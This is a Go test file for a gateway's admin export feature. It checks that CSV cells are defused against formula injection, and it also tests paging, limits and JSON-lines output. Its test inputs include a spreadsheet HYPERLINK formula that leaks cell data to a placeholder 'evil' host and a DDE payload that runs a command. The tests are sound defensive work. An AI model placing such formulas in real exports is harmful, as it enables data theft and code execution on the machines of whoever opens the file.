package administration_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/weigate/weigate/internal/administration"
	"github.com/weigate/weigate/internal/gateway"
)

// elunez/eladmin#863, alkacon/opencms-core#636, jogetworkflow/jw-community#20: a cell of a CSV file was
// run as a formula. Quotation marks do not help.
func TestCSVHasNoFormulas(t *testing.T) {
	t.Parallel()
	for _, cell := range []string{
		`=HYPERLINK("http://evil/?"&A1)`, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1", " =1",
		"\u3000=1", "|cmd", "\x00=1",
	} {
		if got := administration.DefuseCell(cell); got != "'"+cell {
			t.Errorf("%q stays %q", cell, got)
		}
	}
	for _, cell := range []string{"", " ", "a=1", "小明", "1", "'=1", "👩‍💻", "203.0.113.*", "\xff"} {
		if got := administration.DefuseCell(cell); got != cell {
			t.Errorf("%q becomes %q", cell, got)
		}
	}
}

// Excel reads Chinese text only after a byte order mark. JSON lines have the exact values.
func TestExportsOfHostileNames(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	ctx := t.Context()
	_, by := f.admin()
	const nickname = "=cmd|' /C calc'!A0\"\n小明"
	u := f.user(nickname, gateway.Pending)
	note := "-1\n\"quoted\", 备注"
	if _, err := f.Edit(ctx, by, u.ID, administration.Edit{Note: &note}, time.Time{}); err != nil {
		t.Fatal(err)
	}
	var sheet, lines bytes.Buffer
	search := gateway.UserSearch{Status: gateway.Pending}
	if n, err := f.ExportUsers(ctx, by, &sheet, administration.CSV, search, 0); n != 1 || err != nil {
		t.Fatal(n, err)
	}
	if n, err := f.ExportUsers(ctx, by, &lines, administration.JSONLines, search, 0); n != 1 || err != nil {
		t.Fatal(n, err)
	}
	text, found := strings.CutPrefix(sheet.String(), "\ufeff")
	if !found {
		t.Error("no byte order mark")
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatal(rows, err)
	}
	cell := map[string]string{}
	for i, name := range rows[0] {
		cell[name] = rows[1][i]
	}
	if cell["nickname"] != "'"+nickname || cell["note"] != "'"+note || cell["id"] != u.ID || cell["admin"] != "false" {
		t.Errorf("cells %q", cell)
	}
	if _, err := time.Parse("2006-01-02 15:04:05 -07:00", cell["created_at"]); err != nil ||
		!strings.HasSuffix(cell["created_at"], " +08:00") {
		t.Errorf("created_at %q", cell["created_at"])
	}
	var user administration.ExportedUser
	if err := json.Unmarshal(lines.Bytes(), &user); err != nil || user.Nickname != nickname || user.Note != note ||
		!user.CreatedAt.Equal(u.CreatedAt) {
		t.Errorf("%s, %v", lines.String(), err)
	}
	if bytes.Count(lines.Bytes(), []byte("\n")) != 1 || !strings.Contains(lines.String(), `"groups":[]`) {
		t.Errorf("JSON lines %s", lines.String())
	}
	if e := f.events(administration.EventExported); len(e) != 2 || e[0].Actor != by.ID ||
		e[0].Detail != "exported users; format jsonl" {
		t.Errorf("events %+v", e)
	}
}

// An export has every row once, over several pages and while rows are added; a limit is exact.
func TestExportsReadAllPages(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	ctx := t.Context()
	var events []gateway.Event
	for i := range 1201 {
		events = append(events, gateway.Event{At: start, Kind: "sign_in", Outcome: "ok", Detail: fmt.Sprint(i)})
	}
	if err := f.store.AppendEvents(ctx, events...); err != nil {
		t.Fatal(err)
	}
	for limit, want := range map[int]int{0: 1201, 1: 1, 500: 500, 501: 501, 5000: 1201} {
		w := &growing{f: f}
		n, err := f.ExportEvents(ctx, byCommand, w, administration.JSONLines, gateway.EventQuery{Kind: "sign_in"}, limit)
		if n != want || err != nil || w.lines != want {
			t.Errorf("limit %d: %d events, %d lines, %v", limit, n, w.lines, err)
		}
	}
	for _, format := range []administration.Format{administration.CSV, administration.JSONLines} {
		_, err := f.ExportEvents(ctx, byCommand, broken{}, format, gateway.EventQuery{}, 0)
		if !errors.Is(err, errBroken) {
			t.Errorf("export to a closed connection as %s: %v", format, err)
		}
	}
	if _, err := f.ExportEvents(ctx, byCommand, &bytes.Buffer{}, "xlsx", gateway.EventQuery{}, 0); err == nil {
		t.Error("an unknown format is accepted")
	}
}

// growing counts lines, and appends an event of another kind while an export runs.
type growing struct {
	f     *fixture
	lines int
}

func (g *growing) Write(b []byte) (int, error) {
	if g.lines%400 == 0 {
		err := g.f.store.AppendEvents(g.f.t.Context(), gateway.Event{At: start, Kind: "other", Outcome: "ok"})
		if err != nil {
			g.f.t.Error(err)
		}
	}
	g.lines += bytes.Count(b, []byte("\n"))
	return len(b), nil
}

var errBroken = errors.New("broken pipe")

type broken struct{}

func (broken) Write([]byte) (int, error) { return 0, errBroken }
